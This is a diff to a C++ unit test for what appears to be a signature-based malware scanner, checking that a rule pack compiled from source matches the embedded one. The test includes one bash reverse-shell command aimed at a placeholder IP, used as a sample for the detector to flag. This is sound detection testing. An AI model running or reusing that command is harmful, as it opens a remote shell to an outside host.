@@ -5,6 +5,8 @@
 #include "support/contiguous.hpp"
 #include "support/files.hpp"
 
+#include <fmt/format.h>
+#include <fmt/ranges.h>
 #include <catch2/catch.hpp>
 
 #include <random>
@@ -86,23 +88,34 @@ TEST_CASE("too many matches are a problem and not silence") {
   CHECK(matches_in_windows(signatures, bytes, {}).find("more than 1,000,000 times") != std::string::npos);
 }
 
-TEST_CASE("a pack of another version, or one that is broken, is compiled from its source") {
+TEST_CASE("a pack of another version is compiled from its source, to the same rules") {
   const Pack& embedded = embedded_pack();
-  const auto names = [](const Signatures& signatures) {
-    std::string text;
-    for (const auto& one : signatures.list()) text += one.name + " " + one.source + "\n";
-    return text;
-  };
-  const auto usual = names(load(embedded).value());
-  CHECK(usual.find("linux_program assay:bundled") != std::string::npos);
   Pack other = embedded;
   other.version = "0.0.0";
-  other.compiled = {};
-  CHECK(names(load(other).value()) == usual);
-  other.version = embedded.version;
-  CHECK(names(load(other).value()) == usual);
-  other.compiled = embedded.compiled.first(embedded.compiled.size() / 2);
-  CHECK(names(load(other).value()) == usual);
+  other.buffers = {};
+  const auto attached = load(embedded).value();
+  const auto compiled = load(other).value();
+  const auto listed = [](const Signatures& signatures) {
+    std::string text;
+    for (const auto& one : signatures.list())
+      text +=
+          fmt::format("{} {} {} {}\n", one.name, one.source, fmt::join(one.tags, ","), fmt::join(one.metadata, ","));
+    return text;
+  };
+  CHECK(listed(attached).find("linux_program assay:bundled") != std::string::npos);
+  CHECK(listed(attached) == listed(compiled));
+  const std::string bytes = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
+  const auto matched = [&](const Signatures& signatures) {
+    const ByteView view = ByteView::of(bytes);
+    RegionWindows windows(view, {{0, view.size()}});
+    Scanner scanner(signatures);
+    std::string names;
+    for (const auto& hit : scanner.scan({.path = "x", .size = view.size(), .held = view}, windows).hits)
+      names += hit.signature.name + " ";
+    return names;
+  };
+  CHECK(matched(attached) == "reverse_shell_command ");
+  CHECK(matched(compiled) == "reverse_shell_command ");
 }
 
 TEST_CASE("errors of rules say file and line") {
